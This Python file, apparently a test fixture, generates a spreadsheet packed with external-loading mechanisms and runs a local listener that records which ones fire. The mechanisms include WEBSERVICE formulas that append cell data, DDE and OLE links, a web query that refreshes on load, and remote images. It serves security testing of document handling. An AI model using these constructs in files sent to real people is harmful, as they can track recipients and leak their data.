"""A workbook that would load things from elsewhere, in every way known, and a listener that hears whether it does."""

import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/"
NAMESPACES = (
    f'xmlns="{MAIN}"'
    f' xmlns:r="{OFFICE}" xmlns:xdr="{DRAWING}spreadsheetDrawing" xmlns:a="{DRAWING}main"'
    f' xmlns:c="{DRAWING}chart"'
    ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
SQUARE = (
    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
)
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
FILES = ("picture.png", "fill.png", "svg.png", "book.xlsx", "indirect.ods", "indirect.xlsx")  # on this computer


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1: its address, and every path that was asked for."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_error(404)

        do_HEAD = do_OPTIONS = do_PROPFIND = do_POST = do_CONNECT = do_GET

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def relations(*entries: tuple[str, str, str]) -> str:
    """Relationship parts; a target with a scheme lies outside."""
    each = "".join(
        f'<Relationship Id="{identity}" Type="{kind if ":" in kind else f"{OFFICE}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"' if ":" in target else "")
        + "/>"
        for identity, kind, target in entries
    )
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{DECLARATION}<Relationships xmlns="{package}">{each}</Relationships>'


def anchor(row: int, inner: str) -> str:
    corners = "".join(
        f"<xdr:{end}><xdr:col>{column}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{row + column}</xdr:row>"
        f"<xdr:rowOff>0</xdr:rowOff></xdr:{end}>"
        for end, column in (("from", 1), ("to", 3))
    )
    return f"<xdr:twoCellAnchor>{corners}{inner}<xdr:clientData/></xdr:twoCellAnchor>"


def picture(identity: int, blip: str) -> str:
    return (
        f'<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="{identity}" name="p{identity}"/><xdr:cNvPicPr/></xdr:nvPicPr>'
        f"<xdr:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>"
        f"<xdr:spPr>{SQUARE}</xdr:spPr></xdr:pic>"
    )


def filled(identity: int, blip: str) -> str:
    return (
        f'<xdr:sp macro="" textlink=""><xdr:nvSpPr><xdr:cNvPr id="{identity}" name="s{identity}"/><xdr:cNvSpPr/>'
        f"</xdr:nvSpPr><xdr:spPr>{SQUARE}<a:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch>"
        "</a:blipFill></xdr:spPr></xdr:sp>"
    )


def chart(identity: str) -> str:
    return (
        '<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="9" name="c"/><xdr:cNvGraphicFramePr/>'
        '</xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic>'
        f'<a:graphicData uri="{DRAWING}chart"><c:chart r:id="{identity}"/></a:graphicData></a:graphic>'
        "</xdr:graphicFrame>"
    )


def parts(address: str, folder: Path) -> dict[str, str]:
    """Part -> its XML. Everything asks the listener at `address`, or for one of `FILES` in the folder."""
    here = {name: (folder / name).as_uri() for name in FILES}
    return {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml")),
        **workbook_parts(),
        **sheet_parts(address, here),
        **drawing_parts(address, here),
        **link_parts(address, here),
    }


def content_types() -> str:
    office = "application/vnd.openxmlformats-officedocument."
    kinds = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"}
    kinds |= {"vml": office + "vmlDrawing", "png": "image/png", "svg": "image/svg+xml"}
    own = {"xl/workbook.xml": "sheet.main", "xl/worksheets/sheet1.xml": "worksheet"}
    own |= {"xl/connections.xml": "connections", "xl/queryTables/queryTable1.xml": "queryTable"}
    own |= {f"xl/externalLinks/externalLink{i}.xml": "externalLink" for i in range(1, 5)}
    parts = {name: f"{office}spreadsheetml.{kind}+xml" for name, kind in own.items()}
    parts |= {
        "xl/drawings/drawing1.xml": office + "drawing+xml",
        "xl/charts/chart1.xml": office + "drawingml.chart+xml",
    }
    defaults = "".join(f'<Default Extension="{end}" ContentType="{kind}"/>' for end, kind in kinds.items())
    overrides = "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in parts.items())
    package = "http://schemas.openxmlformats.org/package/2006/content-types"
    return f'{DECLARATION}<Types xmlns="{package}">{defaults}{overrides}</Types>'


def workbook_parts() -> dict[str, str]:
    links = range(1, 5)
    books = "".join(f'<externalReference r:id="rId{i}"/>' for i in links)
    return {
        "xl/workbook.xml": f'{DECLARATION}<workbook {NAMESPACES}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId9"/>'
        f"</sheets><externalReferences>{books}"
        '</externalReferences><definedNames><definedName name="web">Sheet1!$H$1:$I$5</definedName></definedNames>'
        "</workbook>",
        "xl/_rels/workbook.xml.rels": relations(
            ("rId9", "worksheet", "worksheets/sheet1.xml"),
            *((f"rId{i}", "externalLink", f"externalLinks/externalLink{i}.xml") for i in links),
            ("rId8", "connections", "connections.xml"),
        ),
    }


def sheet_parts(address: str, here: Mapping[str, str]) -> dict[str, str]:
    formulas = (
        f'_xlfn.WEBSERVICE("{address}/service")',
        f'IFERROR(_xlfn.WEBSERVICE("{address}/service"&amp;B1),B1)',
        "[1]Sheet1!$A$1",
        "SUM([4]Sheet1!$A$1:$B$9)",
        "[1]!Outside",
        "[2]!'!A1'",
        *(f"INDIRECT(\"'{book}'#$Sheet1.A1\")" for book in (f"{address}/indirect.ods", here["indirect.ods"])),
        *(f"INDIRECT(\"'[{book}]Sheet1'!A1\")" for book in (f"{address}/indirect.xlsx", here["indirect.xlsx"])),
    )
    cells = "".join(f'<row r="{i}"><c r="A{i}"><f>{f}</f><v>1</v></c></row>' for i, f in enumerate(formulas, 1))
    return {
        "xl/worksheets/sheet1.xml": f"{DECLARATION}<worksheet {NAMESPACES}><sheetData>{cells}</sheetData>"
        '<drawing r:id="rId1"/><legacyDrawing r:id="rId2"/><picture r:id="rId3"/><oleObjects><oleObject '
        'progId="Excel.Sheet.12" dvAspect="DVASPECT_CONTENT" link="[3]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" '
        'shapeId="1025"/></oleObjects></worksheet>',
        "xl/worksheets/_rels/sheet1.xml.rels": relations(
            ("rId1", "drawing", "../drawings/drawing1.xml"),
            ("rId2", "vmlDrawing", "../drawings/vmlDrawing1.vml"),
            ("rId3", "image", f"{address}/background.png"),
            ("rId4", "queryTable", "../queryTables/queryTable1.xml"),
        ),
        "xl/drawings/vmlDrawing1.vml": f'<xml {NAMESPACES}><v:shape id="_x0000_s1025" type="#_x0000_t75" '
        'style="position:absolute;width:90pt;height:90pt"><v:imagedata o:relid="rId1" r:href="rId1" '
        f'src="{address}/source.png"/></v:shape></xml>',
        "xl/drawings/_rels/vmlDrawing1.vml.rels": relations(("rId1", "image", f"{address}/vml.png")),
    }


def drawing_parts(address: str, here: Mapping[str, str]) -> dict[str, str]:
    shapes = (
        picture(1, 'r:link="rId1"'),
        picture(2, 'r:link="rId2"'),
        picture(3, 'r:embed="rId3"'),
        picture(4, 'r:embed="rId6"'),
        filled(5, 'r:link="rId4"'),
        filled(6, 'r:link="rId5"'),
        chart("rId7"),
    )
    drawn = "".join(anchor(4 * i, shape) for i, shape in enumerate(shapes))
    images = "".join(f'<image xlink:href="{uri}" width="40" height="40"/>' for uri in (address, here["svg.png"]))
    values = "<c:val><c:numRef><c:f>Sheet1!$A$1:$A$3</c:f></c:numRef></c:val>"
    series = f'<c:ser><c:idx val="0"/><c:order val="0"/>{values}</c:ser>'
    bars = f'<c:barChart><c:barDir val="col"/>{series}<c:axId val="1"/><c:axId val="2"/></c:barChart>'
    return {
        "xl/drawings/drawing1.xml": f"{DECLARATION}<xdr:wsDr {NAMESPACES}>{drawn}</xdr:wsDr>",
        "xl/drawings/_rels/drawing1.xml.rels": relations(
            ("rId1", "image", f"{address}/picture.png"),
            ("rId2", "image", here["picture.png"]),
            ("rId3", "image", f"{address}/embedded.png"),
            ("rId4", "image", f"{address}/fill.png"),
            ("rId5", "image", here["fill.png"]),
            ("rId6", "image", "../media/drawn.svg"),
            ("rId7", "chart", "../charts/chart1.xml"),
        ),
        "xl/media/drawn.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="90" height="90">{images}<rect width="9" height="9"/></svg>',
        "xl/charts/chart1.xml": f"{DECLARATION}<c:chartSpace {NAMESPACES}><c:chart><c:plotArea><c:layout/>{bars}"
        '</c:plotArea></c:chart><c:spPr><a:blipFill><a:blip r:link="rId1"/><a:stretch/></a:blipFill></c:spPr>'
        '<c:externalData r:id="rId2"/></c:chartSpace>',
        "xl/charts/_rels/chart1.xml.rels": relations(
            ("rId1", "image", f"{address}/chart.png"), ("rId2", "oleObject", f"{address}/chart.xlsx")
        ),
    }


def link_parts(address: str, here: Mapping[str, str]) -> dict[str, str]:
    """Two workbooks, a DDE link, an OLE link, a query to a page."""
    folder, begin = "xl/externalLinks/", f"{DECLARATION}<externalLink {NAMESPACES}>"
    names = '<sheetNames><sheetName val="Sheet1"/></sheetNames><definedNames>'
    names += '<definedName name="Outside" refersTo="=Sheet1!$A$1"/></definedNames>'
    book = f'{begin}<externalBook r:id="rId1">{names}</externalBook></externalLink>'
    return {
        folder + "externalLink1.xml": book,
        folder + "externalLink4.xml": book,
        folder + "externalLink2.xml": f'{begin}<ddeLink ddeService="soffice" ddeTopic="{address}/dde.ods"><ddeItems>'
        '<ddeItem name="A1" advise="1"/></ddeItems></ddeLink></externalLink>',
        folder + "externalLink3.xml": f'{begin}<oleLink r:id="rId1" progId="Excel.Sheet.12"><oleItems>'
        '<oleItem name="\'" advise="1" preferPic="1"/></oleItems></oleLink></externalLink>',
        folder + "_rels/externalLink1.xml.rels": relations(("rId1", "externalLinkPath", f"{address}/book.xlsx")),
        folder + "_rels/externalLink4.xml.rels": relations(("rId1", "externalLinkPath", here["book.xlsx"])),
        folder + "_rels/externalLink3.xml.rels": relations(("rId1", "oleObject", f"{address}/ole.xlsx")),
        "xl/connections.xml": f'{DECLARATION}<connections {NAMESPACES}><connection id="1" name="web" type="4" '
        'refreshedVersion="6" refreshOnLoad="1" background="1" saveData="1"><webPr sourceData="1" parsePre="1" '
        f'consecutive="1" xl2000="1" url="{address}/query.html"/></connection></connections>',
        "xl/queryTables/queryTable1.xml": f'{DECLARATION}<queryTable {NAMESPACES} name="web" connectionId="1" '
        'refreshOnLoad="1" autoFormatId="16"/>',
    }


PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a49444154789c6360000000020001e221bc330000000049454e44ae426082"
)


def write(path: Path, contents: Mapping[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in contents.items():
            archive.writestr(name, text)
    return path
